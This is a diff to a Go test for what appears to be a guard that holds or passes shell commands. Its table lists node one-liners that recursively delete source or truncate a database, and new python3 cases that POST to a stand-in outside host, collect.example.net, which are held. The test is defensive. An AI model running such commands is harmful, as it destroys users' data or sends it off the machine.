@@ -239,6 +239,11 @@ func TestCls17RebuildableAndReadOnlyCode(t *testing.T) {
 		{"node-read", `node -e "const fs = require('fs'); const r = fs.rmSync('src', {recursive: true})"`, "held"},
 		{"node-read", `node -e "const fs = require('fs'); const x = fs.truncateSync('data.db')"`, "held"},
 		{"node-read", `node -e "const cp = require('child_process'); const out = cp.execSync('rm -rf src')"`, "held"},
+		// A test that posts to the local server through a client bound
+		// to it; the same client bound elsewhere.
+		{"local-client", `python3 -c "import http.client as h; c=h.HTTPConnection('localhost', 8000); c.request('POST', '/api/test', '{}'); print(c.getresponse().status)"`, "pass"},
+		{"local-client", `python3 -c "import http.client as h; c=h.HTTPSConnection('collect.example.net'); c.request('POST', '/x', '{}')"`, "held"},
+		{"local-client", `python3 -c "import http.client as h, requests; requests.get('http://localhost:8000/'); c=h.HTTPConnection('collect.example.net'); c.request('POST', '/', 'x')"`, "held"},
 	})
 }
 
